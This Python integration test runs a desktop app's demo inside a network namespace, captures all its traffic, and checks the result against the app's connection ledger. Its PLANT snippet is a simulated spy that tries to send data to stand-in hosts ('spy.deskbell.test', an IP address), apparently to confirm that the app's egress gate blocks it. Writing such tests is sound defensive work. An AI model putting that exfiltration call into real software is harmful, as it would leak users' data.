"""What the desk does while every packet is captured, and the comparison with its ledger.

``python -m tests.whole.wire.story SCENES FOLDER WORLD_PID DESK_PID`` runs in the world's namespace
and prints what it found as one line of JSON; ``run`` lays the cables and calls it.
"""

from __future__ import annotations

import asyncio
import hashlib
import io
import json
import os
import subprocess
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

from desktop.app import business as owner
from desktop.app.catalogue import FILE
from desktop.app.demo.command import SCENES
from desktop.app.demo.script import Play
from desktop.app.demo.stage import Child, Stage
from desktop.app.demo.transcript import Transcript
from desktop.app.gate.slips import Slips
from desktop.app.owner_mail import MAIL
from desktop.app.passphrase import THROW_AWAY
from desktop.app.places import ROOT
from desktop.app.profile import open_store
from desktop.domain.ledger import LedgerRow, Purpose
from desktop.storage.vault import ThrowAwayVault
from tests.whole.wire.world import PLACES, RESOLVER, Cables, World, cables, world

ADD_MODEL = """
import sys
from pathlib import Path
from desktop.app import adding, catalogue
catalogue.read_catalogue.__defaults__ = catalogue.read_hosts.__defaults__ = (Path(sys.argv[1]),)
adding.read_model_file = lambda path: None  # what is fetched is no model; only the way counts here
from desktop.app.main import main
del sys.argv[1]
sys.exit(main())
"""
PLANT = """
import sys, urllib.request
from pathlib import Path
from desktop.app.gate.process import keep_in, stand
from desktop.domain.ledger import Process
stand()
keep_in(Path(sys.argv[1]), Process.COMMAND)
for address in ("http://spy.deskbell.test/?everything", "http://45.77.77.9/?everything"):
    try:
        urllib.request.urlopen(address, timeout=5)
    except OSError:
        continue
    sys.exit(1)
"""


def run(folder: Path, *, short: bool) -> dict[str, Any]:
    """Run the story; return what was on the wire, what the ledger says, and whether they agree.

    Args:
        folder: For profile, site and certificates.
        short: Two scenes instead of all.
    """
    with cables(folder) as laid:
        done = subprocess.run(
            laid.in_world(
                *(sys.executable, "-m", "tests.whole.wire.story", "short" if short else "all"),
                *(str(folder), str(laid.world), str(laid.desk)),
            ),
            cwd=ROOT,
            stdout=subprocess.PIPE,
            text=True,
            timeout=900,
            check=True,
        )
    found: dict[str, Any] = json.loads(done.stdout.splitlines()[-1])
    return found


class ApartStage(Stage):
    """The demo's stage with the desk behind the cable and the relay in the world."""

    def __init__(self, folder: Path, laid: Cables, trust: Path) -> None:
        self._laid = laid
        self._trust = trust
        super().__init__(folder, shown=False)

    def _child(self, name: str, arguments: list[str]) -> Child:
        if name != "desk":
            return super()._child(name, arguments)
        self.folder.mkdir(parents=True, exist_ok=True)
        words = self._laid.in_desk(sys.executable, *arguments)
        return Child(name, words, self.environment, self.folder / "desk.log")

    @property
    def environment(self) -> dict[str, str]:
        """What the desk's processes are started with."""
        return {
            **os.environ,
            THROW_AWAY: self.key.hex(),
            "QT_QPA_PLATFORM": "offscreen",
            "SSL_CERT_FILE": str(self._trust),
        }

    def name_relay(self) -> None:
        """Name the relay and the mail server as an owner does."""
        store = open_store(self.profile, ThrowAwayVault(self.key))
        try:
            store.put(owner.RELAY, "wss://relay.deskbell.test")
            store.put(owner.ORIGINS, [self.page.rstrip("/")])
            address = {"sender": "desk@deskbell.test", "owner": "owner@deskbell.test"}
            server = {"host": "mail.deskbell.test", "port": 587, "security": "starttls"}
            store.put(MAIL, {**server, **address, "account": ""})
        finally:
            store.close()

    async def do(self, *words: str) -> int:
        """Run a program where the desk is; return its exit code."""
        process = await asyncio.create_subprocess_exec(
            *self._laid.in_desk(sys.executable, *words),
            cwd=ROOT,
            env=self.environment,
            stdout=asyncio.subprocess.DEVNULL,
        )
        return await process.wait()

    def ledger(self) -> tuple[LedgerRow, ...]:
        """Return the ledger with what the commands wrote for it."""
        store = open_store(self.profile, ThrowAwayVault(self.key))
        slips = Slips()
        slips.keep_in(self.profile)
        try:
            store.note_connections(slips.take())
            slips.taken()
            return store.ledger()
        finally:
            store.close()


@asynccontextmanager
async def captured(laid: Cables) -> AsyncIterator[dict[str, Any]]:
    """Capture what the desk's namespace sends during the block; filled at its end."""
    process = await asyncio.create_subprocess_exec(
        *laid.in_desk(sys.executable, "-m", "tests.whole.wire.capture"),
        cwd=ROOT,
        stdin=asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.PIPE,
        limit=1 << 24,
    )
    assert process.stdout is not None
    assert process.stdin is not None
    assert json.loads(await process.stdout.readline())["ready"]
    found: dict[str, Any] = {}
    try:
        yield found
    finally:
        process.stdin.close()
        found.update(json.loads(await process.stdout.readline()))
        await process.wait()


async def story(folder: Path, laid: Cables, *, short: bool) -> dict[str, Any]:
    """Play the demo, send letters, fetch a model and a page, look at the relay, plant a spy."""
    async with world(folder) as everybody, captured(laid) as wire:
        stage = ApartStage(folder / "stage", laid, everybody.trust)
        play = Play(stage, Transcript(io.StringIO()), folder)
        stage.prepare()
        await stage.start_relay()
        everybody.relay_port = stage.port
        stage.name_relay()
        try:
            await stage.start_desk()
            chosen = [SCENES[0], SCENES[2]] if short else SCENES
            for title, scene in chosen:
                await play.scene(title, lambda scene=scene: scene(play))  # type: ignore[misc]
            await play.intent("SendTestLetter")
            await play.intent("SendDigestNow")
            async with asyncio.timeout(60):
                while len(everybody.office.received) < 2:  # noqa: ASYNC110
                    await asyncio.sleep(0.2)
            added = await _add_model(stage, everybody, folder)
            profile = str(stage.profile)
            planted = await stage.do("-c", PLANT, profile)
            # Closed as an owner does it, so that the bytes are counted to the last one.
            await stage.desk.ask(do="quit")
            await stage.desk.ended(30)
        finally:
            await stage.desk.stop()
        app = ("-m", "desktop.app.main", "--profile", profile)
        await stage.do(*app, "doctor")
        imported = await stage.do(*app, "knowledge", "import", "https://www.deskbell.test/faq")
        rows = stage.ledger()
        await stage.relay.stop()
    found = compared(wire, rows)
    found["scenes served"] = sum(one.served for one in play.outcomes)
    found["scenes"] = len(play.outcomes)
    found["not served"] = [f"{one.scene}: {one.why}" for one in play.outcomes if not one.served]
    found["letters"] = sorted(str(one["subject"]) for one in everybody.office.received)
    found["commands done"] = [added, planted, imported] == [0, 0, 0]
    return found


async def _add_model(stage: ApartStage, everybody: World, folder: Path) -> int:
    kept = json.loads(FILE.read_text(encoding="utf-8"))
    kept["hosts"] = ["*.deskbell.test"]
    kept["models"] = [
        {
            **kept["models"][0],
            "name": "small",
            "file": "small.gguf",
            "bytes": len(everybody.model),
            "sha256": hashlib.sha256(everybody.model).hexdigest(),
        }
    ]
    catalogue = folder / "catalogue.json"
    catalogue.write_text(json.dumps(kept), encoding="utf-8")
    return await stage.do(
        *("-c", ADD_MODEL, str(catalogue), "--profile", str(stage.profile)),
        *("models", "add", "small", "--host", "https://models.deskbell.test"),
    )


def compared(wire: dict[str, Any], rows: tuple[LedgerRow, ...]) -> dict[str, Any]:
    """Return both sides as sorted lists of 'host port', and whether they are equal."""
    named = {address: name for name, address in PLACES.items()}
    let_through = [one for one in rows if not one.refused]
    on_wire = {f"{named.get(host, host)} {port}" for host, port, _ in wire["connections"]}
    connected = [one for one in let_through if one.purpose is not Purpose.NAMES]
    in_ledger = {f"{one.host} {one.port}" for one in connected}
    asked = {one.host for one in let_through if one.purpose is Purpose.NAMES}
    datagrams = {f"{host} {port}" for host, port, _ in wire["datagrams"]}
    out = {f"{named.get(host, host)} {port}": count for host, port, count in wire["out"]}
    came = {f"{named.get(host, host)} {port}": count for host, port, count in wire["came"]}
    return {
        "hosts and ports on the wire": sorted(on_wire),
        "hosts and ports in the ledger": sorted(in_ledger),
        "connections equal": on_wire == in_ledger,
        "times on the wire": {
            f"{named.get(host, host)} {port}": times for host, port, times in wire["connections"]
        },
        "times in the ledger": {
            f"{one.host} {one.port} {one.purpose}": one.times for one in connected
        },
        "names asked for on the wire": sorted(wire["names"]),
        "names equal": set(wire["names"]) == asked,
        "datagrams to the name service only": datagrams <= {f"{RESOLVER} 53"},
        "anything else on the wire": sorted(wire["other"]),
        "refused, in the ledger": sorted(f"{one.host} {one.port}" for one in rows if one.refused),
        "packets": wire["packets"],
        "packets that were not captured": wire["dropped"],
        "bytes on the wire, out and in": {name: [out[name], came.get(name, 0)] for name in out},
        "bytes in the ledger, out and in": {
            f"{one.host} {one.port}": [one.bytes_out, one.bytes_in] for one in connected
        },
        "with visitors' data": sorted(one.host for one in connected if one.carries_visitors_data),
    }


def main(words: list[str]) -> None:
    """Run in the world's namespace."""
    how, folder, at_world, at_desk = words
    laid = Cables(int(at_world), int(at_desk), Path(folder) / "resolv.conf")
    print(json.dumps(asyncio.run(story(Path(folder), laid, short=how == "short"))))


if __name__ == "__main__":
    main(sys.argv[1:])
